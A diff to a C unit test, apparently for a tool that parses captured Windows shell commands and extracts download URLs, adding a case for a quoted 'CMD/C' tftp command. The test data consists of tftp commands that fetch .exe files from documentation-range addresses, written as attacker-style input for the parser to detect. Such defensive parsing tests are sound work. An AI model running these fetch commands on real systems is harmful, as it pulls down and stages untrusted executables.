@@ -129,6 +129,11 @@ test_cmd_tftp(void **state)
 	assert_int_equal(test_res.nactions, 1);
 	assert_string_equal(test_res.actions[0].url,
 	    "tftp://198.51.100.7/a.exe");
+	/* cmd/c with no blank, quoted. */
+	cmd("CMD/C \"tftp -i 203.0.113.6 GET c.exe\"", NULL);
+	assert_int_equal(test_res.nactions, 1);
+	assert_string_equal(test_res.actions[0].url,
+	    "tftp://203.0.113.6/c.exe");
 	/* A public address is not the attacker's. */
 	cmd("cmd.exe /k tftp -i 203.0.113.77 get b.exe", "198.51.100.7");
 	assert_string_equal(test_res.actions[0].url,
